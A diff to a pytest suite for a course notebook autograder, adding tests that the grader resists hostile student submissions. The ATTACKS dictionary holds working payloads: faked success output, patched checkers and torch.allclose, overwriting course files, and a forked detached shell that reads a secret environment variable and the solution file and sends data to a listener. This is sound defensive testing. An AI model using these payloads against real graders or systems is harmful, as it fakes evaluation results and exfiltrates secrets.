@@ -5,15 +5,22 @@ command line; each test then looks at one submission's result.
 """
 
 import copy
+import hashlib
 import json
+import os
+import socket
 import subprocess
 import sys
+import threading
 
 import nbformat
 import pytest
 
+from course_utils.checks import _core
 from course_utils.instructor import notebooks as nbtools
-from course_utils.instructor.grader import scan_exercise_source
+from course_utils.instructor import sandbox
+from course_utils.instructor.grader import scan_exercise_source, scan_gives_away
+from course_utils.paths import NOTEBOOKS_DIR, PACKAGE_DIR
 
 SOLUTION = nbtools.find_notebook("01")
 STEM = SOLUTION.stem
@@ -37,7 +44,69 @@ def check_cell(nb, ex_id):
     return nb.cells[nbtools.check_cell_index(nb, ex_id)]
 
 
-def build_submissions():
+SECRET = "instructor-secret-5b1f0e"
+TOKEN = "leftover-process-9c4d2a"
+STUB = "def ns_generator_loss(fake_logits):\n    return fake_logits.mean()\n"
+SUCCESS = {
+    ex: f"Exercise {ex} passed: {_core.checker_for(ex).summary}" for ex in ALL
+}
+
+# Attacks made by the exercise code itself. Each one gets past the source scan
+# (tested below), so only the verdict taken outside the kernel and the sandbox
+# stand in its way.
+ATTACKS = {
+    # the name the check cells call, rebound to something that prints the
+    # success lines the released notebook shows
+    "attack_rebind": (
+        f"SUCCESS = {SUCCESS!r}\n"
+        "class checks:\n"
+        "    @staticmethod\n"
+        "    def check(exercise_id, *answers):\n"
+        "        print(SUCCESS[exercise_id])\n\n\n" + STUB
+    ),
+    # the checkers' registry, reached by a path the scan does not deny, every
+    # checker replaced by one that accepts anything
+    "attack_registry": (
+        "core = getattr(torch.sys, 'mod' + 'ules')['course_utils.checks._core']\n"
+        "for c in core._REGISTRY.values():\n"
+        "    type(c).run = lambda self, answer, case: 0.0\n"
+        "    type(c).verify = lambda self, case, result: None\n\n\n" + STUB
+    ),
+    # the library function the checkers compare with, patched through an alias
+    "attack_alias": "import torch as tt\ntt.allclose = lambda *a, **k: True\n\n\n"
+    + STUB,
+    # the course's own files rewritten, to corrupt every later grading
+    "attack_files": (
+        "import pathlib as pl\n"
+        "package = pl.Path(plotting.__file__).parent\n"
+        "for f in sorted(package.rglob('*.py')) + sorted(\n"
+        "        (package.parent / 'notebooks').glob('*.ipynb')):\n"
+        "    f.write_text(f.read_text() + '\\n# corrupted\\n')\n\n\n" + STUB
+    ),
+    # a process that outlives the cell, the instructor's environment, the
+    # solution notebook and the network
+    "attack_escape": (
+        "import posix\n"
+        "import socket as so\n"
+        "found = [str(posix.environ.get(b'COURSE_TEST_SECRET'))]\n"
+        "if posix.fork() == 0:\n"
+        "    posix.setsid()\n"
+        f"    posix.execv('/bin/sh', ['sh', '-c', 'sleep 120; echo {TOKEN}'])\n"
+        "try:\n"
+        "    found.append(open(PATH).read()[:2000])\n"
+        "except OSError as exc:\n"
+        "    found.append(type(exc).__name__)\n"
+        "try:\n"
+        "    so.create_connection(('127.0.0.1', PORT), timeout=2).sendall(b'leak')\n"
+        "    found.append('connected')\n"
+        "except OSError as exc:\n"
+        "    found.append(type(exc).__name__)\n"
+        "raise RuntimeError('LEAK ' + ' | '.join(found))\n\n\n" + STUB
+    ),
+}
+
+
+def build_submissions(port=0):
     subs = {}
     subs["solution"] = solution_nb()
     subs["student"] = student_nb()
@@ -98,6 +167,17 @@ def build_submissions():
     )
     subs["infinite_loop"] = nb
 
+    for name, source in ATTACKS.items():
+        source = source.replace("PATH", repr(str(SOLUTION))).replace("PORT", str(port))
+        subs[name] = set_exercise(student_nb(), "1.2", source)
+
+    subs["gives_away"] = set_exercise(
+        solution_nb(),
+        "1.2",
+        "def ns_generator_loss(fake_logits):\n"
+        "    return losses.g_loss_nonsaturating(fake_logits)\n",
+    )
+
     nb = solution_nb()  # exercise cells moved and renumbered: matched by id
     nb.cells = list(reversed(nb.cells))
     for cell in nb.cells:
@@ -106,10 +186,38 @@ def build_submissions():
     return subs
 
 
+def course_files_digest():
+    digest = hashlib.sha256()
+    for f in sorted(PACKAGE_DIR.rglob("*.py")) + sorted(NOTEBOOKS_DIR.glob("*.ipynb")):
+        digest.update(str(f).encode() + f.read_bytes())
+    return digest.hexdigest()
+
+
+class Listener:
+    """A TCP server on the host's loopback that records whatever reaches it."""
+
+    def __init__(self):
+        self.sock = socket.create_server(("127.0.0.1", 0))
+        self.port = self.sock.getsockname()[1]
+        self.received = []
+        threading.Thread(target=self._serve, daemon=True).start()
+
+    def _serve(self):
+        while True:
+            try:
+                conn, _ = self.sock.accept()
+            except OSError:
+                return
+            self.received.append(conn.recv(100))
+            conn.close()
+
+
 @pytest.fixture(scope="module")
 def results(tmp_path_factory):
     folder = tmp_path_factory.mktemp("submissions")
-    for name, nb in build_submissions().items():
+    before = course_files_digest()
+    listener = Listener()
+    for name, nb in build_submissions(listener.port).items():
         nb = copy.deepcopy(nb)
         nb.nbformat_minor = 4  # submissions may come without cell ids
         for cell in nb.cells:
@@ -140,7 +248,9 @@ def results(tmp_path_factory):
         capture_output=True,
         text=True,
         timeout=900,
+        env={**os.environ, "COURSE_TEST_SECRET": SECRET},
     )
+    listener.sock.close()
     assert proc.returncode == 0, proc.stdout + proc.stderr
     data = json.loads(out.read_text())["results"]
     by_name = {}
@@ -148,6 +258,12 @@ def results(tmp_path_factory):
         rel = r["submission"].split(str(folder) + "/")[1]
         by_name[rel.split("/")[0]] = r
     by_name["__table__"] = proc.stdout
+    by_name["__json__"] = out.read_text()
+    by_name["__files_changed__"] = course_files_digest() != before
+    by_name["__network__"] = listener.received
+    by_name["__leftover__"] = subprocess.run(
+        ["pgrep", "-f", TOKEN], capture_output=True, text=True
+    ).stdout.split()
     return by_name
 
 
@@ -221,7 +337,7 @@ def test_bad_files_get_an_error_entry(results, name, message):
 def test_table_lists_every_submission(results):
     table = results["__table__"]
     assert "4/4" in table and "0/4" in table and "ERROR" in table
-    assert "14 submission(s) graded" in table
+    assert f"{14 + len(ATTACKS) + 1} submission(s) graded" in table
 
 
 @pytest.mark.parametrize(
@@ -239,3 +355,69 @@ def test_table_lists_every_submission(results):
 )
 def test_static_scan(source, ok):
     assert (scan_exercise_source(source) is None) == ok
+
+
+@pytest.mark.parametrize("name", sorted(ATTACKS))
+def test_attacks_get_past_the_scan(name):
+    """So the tests below exercise the design, not the scan."""
+    assert scan_exercise_source(ATTACKS[name]) is None
+
+
+@pytest.mark.parametrize("name", ["attack_rebind", "attack_registry", "attack_alias"])
+def test_attacks_inside_the_kernel_earn_nothing(results, name):
+    r = results[name]
+    assert r["error"] is None
+    assert passed(r) == set(), r["exercises"]
+    message = r["exercises"]["1.2"]["message"]
+    assert "rejected" not in message
+    if name == "attack_alias":  # the check cell printed its line: the grader said no
+        assert "the loss is wrong" in message, message
+
+
+needs_sandbox = pytest.mark.skipif(
+    not sandbox.isolation().isolated, reason=sandbox.isolation().detail
+)
+
+
+@needs_sandbox
+def test_attack_on_the_course_files_changes_nothing(results):
+    r = results["attack_files"]
+    assert "1.2" not in passed(r)
+    assert not results["__files_changed__"]
+    # graded in the same run, the right answers still score
+    assert results["solution"]["score"] == 4
+    assert results["reordered"]["score"] == 4
+
+
+@needs_sandbox
+def test_submission_cannot_escape_the_sandbox(results):
+    r = results["attack_escape"]
+    assert "1.2" not in passed(r)
+    message = r["exercises"]["1.2"]["message"]
+    assert "LEAK None | " in message, message  # not the instructor's variable
+    assert "| FileNotFoundError | " in message  # the solutions are hidden
+    assert "connected" not in message
+    assert results["__network__"] == []
+    assert results["__leftover__"] == []  # the forked process died with the job
+    assert SECRET not in results["__json__"]
+
+
+def test_calling_the_package_answer_is_refused(results):
+    r = results["gives_away"]
+    assert passed(r) == {"1.1", "1.3", "1.4"}
+    assert "course's own answer" in r["exercises"]["1.2"]["message"]
+
+
+@pytest.mark.parametrize(
+    "exercise_id, source, refused",
+    [
+        ("1.2", "def f(t):\n    return losses.g_loss_nonsaturating(t)\n", True),
+        ("1.2", "from course_utils.losses import g_loss_nonsaturating as g\n", True),
+        ("1.2", "def f(t):\n    return getattr(losses, 'g_loss_nonsaturating')(t)\n",
+         True),
+        ("1.2", "def f(t):\n    return F.softplus(-t).mean()\n", False),
+        ("1.3", "def f(t):\n    return losses.g_loss_nonsaturating(t)\n", False),
+    ],
+)
+def test_gives_away_scan(exercise_id, source, refused):
+    assert (scan_gives_away(exercise_id, source) is not None) == refused
